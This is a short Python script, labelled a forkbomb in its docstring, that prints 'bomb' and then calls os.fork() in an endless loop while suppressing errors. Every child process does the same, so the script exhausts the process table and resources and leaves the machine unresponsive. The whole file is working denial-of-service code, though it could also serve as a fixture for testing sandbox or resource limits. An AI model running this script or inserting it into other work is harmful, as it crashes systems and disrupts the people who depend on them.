"""forkbomb: every process that there is forks, for ever, whatever answer it gets."""

import contextlib
import os

print("bomb", flush=True)
while True:
    with contextlib.suppress(OSError):
        os.fork()
